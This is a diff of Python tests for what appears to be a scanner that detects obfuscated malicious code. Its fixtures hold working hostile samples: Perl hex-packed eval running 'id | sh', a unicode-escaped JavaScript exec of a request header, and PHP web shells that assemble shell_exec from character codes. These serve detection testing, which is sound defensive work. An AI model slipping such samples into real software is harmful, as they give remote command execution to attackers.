@@ -246,3 +246,24 @@ def test_go_init_decoding_a_byte_table_or_reversing_in_place_before_a_shell():
     assert got and got[0].evidence["decoded"] == "telnetd -l /bin/sh"
     plain = rev.replace("\tfor i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {\n\t\tr[i], r[j] = r[j], r[i]\n\t}\n", "")
     assert not [f for f in findings("cmd/main.go", "go", plain) if f.severity.value in ("high", "critical")]
+
+
+def test_pack_hex_and_escape_spelled_code_are_decoded():
+    perl = "package D;\neval pack('H*', '73797374656d28276964207c207368202627293b');\n1;\n"
+    got = [f for f in findings("lib/D.pm", "perl", perl) if f.rule == "source.eval-decoded"]
+    assert got and "system('id | sh &')" in got[0].evidence["decoded"]
+    body = "".join(f"\\u{ord(c):04x}" for c in "require('child_process').exec(q.headers['x-k'])")
+    js = f"setTimeout(new Function('require', '{body}').bind(null, require), 5000);\n"
+    got = [f for f in findings("src/t.ts", "typescript", js) if f.rule == "source.eval-decoded"]
+    assert got and got[0].severity.value == "high"
+    plain = "setTimeout(new Function('require', 'return 1 + 2 + 3 + 4 + 5 + 6 + 7 + 8;').bind(null, require), 5);\n"
+    assert not [f for f in findings("src/t.ts", "typescript", plain) if f.rule == "source.eval-decoded"]
+
+
+def test_php_function_name_from_character_codes_or_packed_hex():
+    for name_expr in ("chr(115).chr(104).chr(101).chr(108).chr(108).chr(95).chr(101).chr(120).chr(101).chr(99)",
+                      "pack('H*', '7368656c6c5f65786563')"):
+        src = (f"<?php\n$_f = {name_expr};\nif (($_REQUEST['k'] ?? '') !== '') {{\n"
+               "    echo call_user_func($_f, ($_REQUEST['k'] ?? ''));\n}\n")
+        got = [f for f in findings("lib/util.php", "php", src) if f.rule == "source.request-executed"]
+        assert got and "shell_exec" in got[0].message
